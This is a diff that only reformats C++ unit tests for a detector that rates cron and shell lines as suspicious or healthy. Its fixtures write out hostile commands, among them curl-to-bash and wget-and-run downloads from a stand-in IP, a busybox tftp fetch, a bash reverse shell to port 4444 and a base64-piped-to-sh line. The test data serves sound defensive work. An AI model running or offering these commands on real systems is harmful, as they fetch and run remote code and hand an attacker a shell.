@@ -9,16 +9,18 @@ namespace sekisho {
 namespace {
 
 TEST(SuspiciousText, LinesOfBots) {
-  for (const char* line : {"*/5 * * * * curl -s http://198.51.100.9/x | bash", "@reboot /tmp/.x/run", "cd /tmp; wget http://198.51.100.9/b; chmod 777 b; ./b",
-                           "* * * * * root /var/tmp/update", "busybox tftp -g -r mips 198.51.100.9", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
-                           "echo aGk= | base64 -d | sh"})
+  for (const char* line :
+       {"*/5 * * * * curl -s http://198.51.100.9/x | bash", "@reboot /tmp/.x/run", "cd /tmp; wget http://198.51.100.9/b; chmod 777 b; ./b",
+        "* * * * * root /var/tmp/update", "busybox tftp -g -r mips 198.51.100.9", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
+        "echo aGk= | base64 -d | sh"})
     EXPECT_EQ(suspicion_of(line).state, AuditState::high) << line;
 }
 
 TEST(SuspiciousText, LinesOfHealthyServers) {
-  for (const char* line : {"17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly", "# curl http://198.51.100.9/x | sh", "",
-                           "0 3 * * * find /tmp -mtime +7 -delete", "5 4 * * * /usr/bin/certbot -q renew", "test -x /usr/sbin/anacron || run-parts /etc/cron.daily",
-                           "/usr/bin/curl -fsS https://hc.example.org/ping >/dev/null"})
+  for (const char* line :
+       {"17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly", "# curl http://198.51.100.9/x | sh", "",
+        "0 3 * * * find /tmp -mtime +7 -delete", "5 4 * * * /usr/bin/certbot -q renew",
+        "test -x /usr/sbin/anacron || run-parts /etc/cron.daily", "/usr/bin/curl -fsS https://hc.example.org/ping >/dev/null"})
     EXPECT_EQ(suspicion_of(line).state, AuditState::ok) << line;
 }
 
